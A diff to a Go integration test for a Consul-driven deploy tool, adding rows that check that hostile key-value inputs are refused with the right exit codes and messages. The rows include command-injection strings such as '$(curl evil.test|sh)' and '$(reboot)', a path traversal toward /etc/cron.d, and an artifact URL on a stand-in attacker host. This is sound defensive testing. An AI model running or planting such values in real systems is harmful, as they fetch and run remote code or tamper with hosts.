@@ -201,17 +201,25 @@ func newEnv(t *testing.T) *env {
 	require.NoError(t, err)
 	e.clientAddr, err = e.p.ClientAddr()
 	require.NoError(t, err)
-	ac := api.DefaultNonPooledConfig()
-	ac.Address, ac.Token, ac.TokenFile = e.clientAddr, "", ""
+	// The operator's client: HTTPS to the client agent, verified with the cluster's CA,
+	// with the management token.
+	ac, err := e.p.APIConfig()
+	require.NoError(t, err)
 	e.consul, err = api.NewClient(ac)
 	require.NoError(t, err)
 	return e
 }
 
-// handlerEnv is the environment of a handler run by the test: as a watch would run it
-// on the client agent.
+// handlerEnv is the environment of a handler run by the test: as an agent hands it to
+// a watch handler (the handlers' files have no consul block), HTTPS with the
+// cluster's CA and a token file. The token is the management token: the rows test
+// what the handlers refuse, not what their tokens may do (test/acl does).
 func (e *env) handlerEnv() []string {
-	return []string{api.HTTPAddrEnvName + "=" + e.clientAddr}
+	return []string{
+		api.HTTPAddrEnvName + "=https://" + e.clientAddr,
+		api.HTTPCAFile + "=" + e.p.CAFile(),
+		api.HTTPTokenFileEnvName + "=" + e.p.ManagementTokenFile(),
+	}
 }
 
 // world is everything a handler could change.
@@ -397,6 +405,26 @@ func TestBadInput_IsRefusedWithItsExitCodeAndMessageAndChangesNothing(t *testing
 	_, err := e.consul.KV().Put(&api.KVPair{Key: "badinput/seed", Value: []byte("seed")}, nil)
 	require.NoError(t, err)
 
+	// What a hostile writer left for the deploy rows to meet, before the world is
+	// read, so that a row that acted on it would show: on the client agent's node, an
+	// "api" current version and a "db" unfinished deployment's previous version that
+	// are not versions; in the catalog, a node with no agent behind it that runs
+	// "fakeweb".
+	nodeName, err := e.consul.Agent().NodeName()
+	require.NoError(t, err)
+	_, err = e.consul.KV().Put(&api.KVPair{Key: "deploy/api/nodes/" + nodeName + "/current", Value: []byte("$(reboot)")}, nil)
+	require.NoError(t, err)
+	_, err = e.consul.KV().Put(&api.KVPair{Key: "deploy/db/nodes/" + nodeName + "/status",
+		Value: []byte(`{"id":"d-resume","version":"v2","previous":"../../etc/cron.d/x","state":"deploying","started":"2026-01-01T00:00:00Z","attempts":1}`)}, nil)
+	require.NoError(t, err)
+	_, err = e.consul.Catalog().Register(&api.CatalogRegistration{Node: "fake-web", Address: "127.0.0.1",
+		Service: &api.AgentService{ID: "fakeweb", Service: "fakeweb", Port: 8080}}, nil)
+	require.NoError(t, err)
+	testcluster.WaitFor(t, time.Minute, "the fake node in the catalog", func() (bool, string) {
+		svcs, _, err := e.consul.Catalog().Service("fakeweb", "", nil)
+		return err == nil && len(svcs) == 1, fmt.Sprintf("%d instances, error %v", len(svcs), err)
+	})
+
 	before := e.snapshot()
 	require.Len(t, before.Instances, 3, "%+v", before.Instances)
 	for _, i := range before.Instances {
@@ -525,8 +553,6 @@ func TestBadInput_IsRefusedWithItsExitCodeAndMessageAndChangesNothing(t *testing
 
 	// The deploy handler: the key watch's payload and its desired value. The node's
 	// desired key would deploy if the value were good.
-	nodeName, err := e.consul.Agent().NodeName()
-	require.NoError(t, err)
 	deployCfg := filepath.Join(e.dir, "deploy.hcl")
 	require.NoError(t, os.WriteFile(deployCfg, []byte(`deploy "web" {
   command = ["/bin/sh", "-c", "echo deployed"]
@@ -534,18 +560,43 @@ func TestBadInput_IsRefusedWithItsExitCodeAndMessageAndChangesNothing(t *testing
 deploy "api" {
   command = ["/bin/sh", "-c", "echo deployed"]
 }
+deploy "db" {
+  command = ["/bin/sh", "-c", "echo deployed"]
+}
 `), 0o644))
+	// A deploy block that pins artifacts: an allow-list and a required sha256.
+	pinnedCfg := filepath.Join(e.dir, "deploy-pinned.hcl")
+	require.NoError(t, os.WriteFile(pinnedCfg, []byte(`deploy "web" {
+  command        = ["/bin/sh", "-c", "echo deployed"]
+  artifacts      = ["https://releases.example.com/web/*"]
+  require_sha256 = true
+}
+`), 0o644))
+	// A token file others may read: the configuration that names it is refused.
+	openToken := filepath.Join(e.dir, "open.token")
+	require.NoError(t, os.WriteFile(openToken, []byte("00000000-0000-0000-0000-000000000001\n"), 0o600))
+	require.NoError(t, os.Chmod(openToken, 0o644))
+	openTokenCfg := filepath.Join(e.dir, "deploy-open-token.hcl")
+	require.NoError(t, os.WriteFile(openTokenCfg, []byte(fmt.Sprintf(`consul {
+  token_file = %q
+}
+deploy "web" {
+  command = ["/bin/sh", "-c", "echo deployed"]
+}
+`, openToken)), 0o644))
+	sum := strings.Repeat("0123456789abcdef", 4)
 	brokenDeployCfg := filepath.Join(e.dir, "deploy-broken.hcl")
 	require.NoError(t, os.WriteFile(brokenDeployCfg, []byte(`deploy "web" {
   timeout = "5m"
 }
 `), 0o644))
 	dcfg := []string{"-config", deployCfg}
-	desired := func(node, value string) []byte {
-		b, err := json.Marshal(&api.KVPair{Key: "deploy/web/nodes/" + node + "/desired", Value: []byte(value)})
+	desiredOf := func(service, node, value string) []byte {
+		b, err := json.Marshal(&api.KVPair{Key: "deploy/" + service + "/nodes/" + node + "/desired", Value: []byte(value)})
 		require.NoError(t, err)
 		return b
 	}
+	desired := func(node, value string) []byte { return desiredOf("web", node, value) }
 	goodDesired := `{"id":"d1","version":"v2"}`
 	rows = append(rows, []row{
 		{name: "deploy: empty stdin", prog: "deploy", args: dcfg, stdin: nil, code: app.ExitBadPayload,
@@ -555,7 +606,7 @@ deploy "api" {
 		{name: "deploy: wrong shape, an array", prog: "deploy", args: dcfg, stdin: []byte("[" + string(desired(nodeName, goodDesired)) + "]"), code: app.ExitBadPayload,
 			want: []string{"decode key watch payload: expected object or null, got array"}},
 		{name: "deploy: desired value not JSON", prog: "deploy", args: dcfg, stdin: desired(nodeName, "v2 please"), code: app.ExitBadPayload,
-			want: []string{"bad desired value: not a JSON object of id, version and artifact"}},
+			want: []string{"bad desired value: not a JSON object of id, version, artifact and sha256"}},
 		{name: "deploy: desired value without an id", prog: "deploy", args: dcfg, stdin: desired(nodeName, `{"version":"v2"}`), code: app.ExitBadPayload,
 			want: []string{"bad desired value: missing id"}},
 		{name: "deploy: desired value without a version", prog: "deploy", args: dcfg, stdin: desired(nodeName, `{"id":"d1"}`), code: app.ExitBadPayload,
@@ -569,8 +620,52 @@ deploy "api" {
 			want: []string{"deploy: " + e.cfgPath + `:1:1: a deploy "<service>" block is required`}},
 		{name: "deploy: a deploy block without a command", prog: "deploy", args: []string{"-config", brokenDeployCfg}, stdin: desired(nodeName, goodDesired), code: app.ExitConfig,
 			want: []string{"deploy: " + brokenDeployCfg + ":1:1: deploy.web.command is required"}},
+		// The deploy trust model: whoever writes a node's keys picks what its commands
+		// run with, so versions are plain tokens, artifacts and digests are held to the
+		// node's deploy block, and the rollout deploys only to nodes with an agent.
+		{name: "deploy: desired version that is a path", prog: "deploy", args: dcfg,
+			stdin: desired(nodeName, `{"id":"d1","version":"../../etc/cron.d/x"}`), code: app.ExitBadPayload,
+			want: []string{`bad desired value: version \"../../etc/cron.d/x\" must be 1 to 128 characters of A-Z, a-z, 0-9 and . _ + -`}},
+		{name: "deploy: desired version that is shell", prog: "deploy", args: dcfg,
+			stdin: desired(nodeName, `{"id":"d1","version":"$(curl evil.test|sh)"}`), code: app.ExitBadPayload,
+			want: []string{`bad desired value: version \"$(curl evil.test|sh)\" must be`}},
+		{name: "deploy: a current version that is not a version", prog: "deploy", args: dcfg,
+			stdin: desiredOf("api", nodeName, goodDesired), code: app.ExitRefused,
+			want: []string{`refused: deploy/api/nodes/` + nodeName + `/current: version \"$(reboot)\" must be`}},
+		{name: "deploy: a resumed deployment's previous version that is not a version", prog: "deploy", args: dcfg,
+			stdin: desiredOf("db", nodeName, `{"id":"d-resume","version":"v2"}`), code: app.ExitRefused,
+			want: []string{`refused: deploy/db/nodes/` + nodeName + `/status: previous version \"../../etc/cron.d/x\" must be`}},
+		{name: "deploy: an artifact the allow-list does not have", prog: "deploy", args: []string{"-config", pinnedCfg},
+			stdin: desired(nodeName, `{"id":"d1","version":"v2","artifact":"https://evil.test/web/v2.tgz","sha256":"`+sum+`"}`), code: app.ExitRefused,
+			want: []string{`refused: artifact \"https://evil.test/web/v2.tgz\" matches none of deploy.web.artifacts`}},
+		{name: "deploy: an allowed artifact escaping with ..", prog: "deploy", args: []string{"-config", pinnedCfg},
+			stdin: desired(nodeName, `{"id":"d1","version":"v2","artifact":"https://releases.example.com/web/../admin/x","sha256":"`+sum+`"}`), code: app.ExitRefused,
+			want: []string{`has \"..\"`}},
+		{name: "deploy: no sha256 where the block requires one", prog: "deploy", args: []string{"-config", pinnedCfg},
+			stdin: desired(nodeName, `{"id":"d1","version":"v2","artifact":"https://releases.example.com/web/v2.tgz"}`), code: app.ExitRefused,
+			want: []string{"refused: no sha256, and deploy.web.require_sha256 is set"}},
+		{name: "deploy: a sha256 that is not 64 hex digits", prog: "deploy", args: []string{"-config", pinnedCfg},
+			stdin: desired(nodeName, `{"id":"d1","version":"v2","artifact":"https://releases.example.com/web/v2.tgz","sha256":"`+sum[:63]+`z"}`), code: app.ExitBadPayload,
+			want: []string{`bad desired value: sha256 \"` + sum[:63] + `z\" must be 64 hex digits`}},
+		{name: "deploy: a token file others may read", prog: "deploy", args: []string{"-config", openTokenCfg}, stdin: desired(nodeName, goodDesired), code: app.ExitConfig,
+			want: []string{"deploy: " + openTokenCfg + ":2:3: consul.token_file: " + openToken + " is readable or writable by group or others (mode 0644)"}},
+		{name: "rehydrate deploy status: a token file others may read", prog: "rehydrate", args: []string{"-config", openTokenCfg, "deploy", "status", "--service", "web"},
+			code: app.ExitConfig, want: []string{"consul.token_file: " + openToken + " is readable or writable by group or others (mode 0644)"}},
+		{name: "rehydrate deploy start: only a catalog node with no agent", prog: "rehydrate",
+			args: []string{"deploy", "start", "--service", "fakeweb", "--version", "v2"}, code: app.ExitRefused,
+			want: []string{`no node of service fakeweb to deploy to; refused \"fake-web\": in the catalog but not a member of the gossip pool`}},
+		{name: "rehydrate deploy start: a node filter that leaves no node", prog: "rehydrate",
+			args: []string{"deploy", "start", "--service", "fakeweb", "--version", "v2", "--node-filter", `Node != "fake-web"`}, code: app.ExitRefused,
+			want: []string{"refused: no instance of service fakeweb in the catalog that --node-filter", "selects"}},
+		{name: "rehydrate deploy start: a node filter Consul cannot evaluate", prog: "rehydrate",
+			args: []string{"deploy", "start", "--service", "fakeweb", "--version", "v2", "--node-filter", "Node ==="}, code: app.ExitUsage,
+			want: []string{`--node-filter \"Node ===\"`, "Failed to create boolean expression evaluator"}},
+		{name: "rehydrate deploy start: a version that is shell", prog: "rehydrate", args: []string{"deploy", "start", "--service", "web", "--version", "$(reboot)"},
+			code: app.ExitUsage, want: []string{`rehydrate deploy start: --version/--artifact/--sha256: version "$(reboot)" must be 1 to 128 characters`}},
+		{name: "rehydrate deploy start: a sha256 that is not one", prog: "rehydrate", args: []string{"deploy", "start", "--service", "web", "--version", "v2", "--sha256", "abc"},
+			code: app.ExitUsage, want: []string{`--version/--artifact/--sha256: sha256 "abc" must be 64 hex digits`}},
 		{name: "rehydrate deploy start: no version", prog: "rehydrate", args: []string{"deploy", "start", "--service", "web"}, code: app.ExitUsage,
-			want: []string{"rehydrate deploy start: --version/--artifact: missing version"}},
+			want: []string{"rehydrate deploy start: --version/--artifact/--sha256: missing version"}},
 		{name: "rehydrate deploy start: a service name unsafe in a key", prog: "rehydrate",
 			args: []string{"deploy", "start", "--service", "web/../x", "--version", "v2", "--batch", "0"}, code: app.ExitUsage,
 			want: []string{`--service "web/../x": want a service name`, "--batch must be at least 1, got 0"}},
